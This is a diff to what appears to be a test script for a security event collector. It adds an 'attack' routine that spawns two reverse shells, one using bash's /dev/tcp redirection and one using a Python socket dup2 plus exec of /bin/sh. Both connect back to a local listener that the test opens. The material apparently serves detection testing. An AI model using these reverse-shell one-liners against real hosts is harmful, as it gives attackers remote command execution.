@@ -60,6 +60,32 @@ def renamed_socketpair():
     return child.pid
 
 
+DUP2 = """
+import os, socket
+s = socket.create_connection(("127.0.0.1", %d))
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+os.execv("/bin/sh", ["sh", "-i"])
+"""
+
+
+def reverse_shell(srv, cmd):
+    """Starts cmd, which connects back to srv and runs a shell there; sends it a command; returns the shell's pid."""
+    p = subprocess.Popen(cmd, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    conn, _ = srv.accept()
+    conn.sendall(b"echo $$; sleep 3; exit\n")
+    got = b""
+    conn.settimeout(10)
+    while b"\n" not in got or not got.strip().splitlines()[0].strip().isdigit():
+        chunk = conn.recv(4096)
+        if not chunk:
+            break
+        got += chunk
+    p.wait(timeout=20)
+    conn.close()
+    return p.pid
+
+
 def hostname_change():
     child = os.fork()
     if child == 0:
@@ -93,6 +119,10 @@ if sys.argv[1] == "attack":
     shell.wait()
     did["shell"] = shell.pid
     conn.close()
+    # reverse shells, two ways, each against a listener of this test: bash's own redirection, and python dup2()ing a
+    # connected socket onto 0-2 before exec'ing a shell; each shell runs one command sent over the connection
+    did["reverseBash"] = reverse_shell(srv, ["/bin/bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/%d 0>&1" % listen_port])
+    did["reversePython"] = reverse_shell(srv, [sys.executable, "-c", DUP2 % listen_port])
     for s in (raw4, raw6, packet, srv):
         s.close()
     # the collector reads a process's context from /proc when its exec's record comes by: a process that is gone
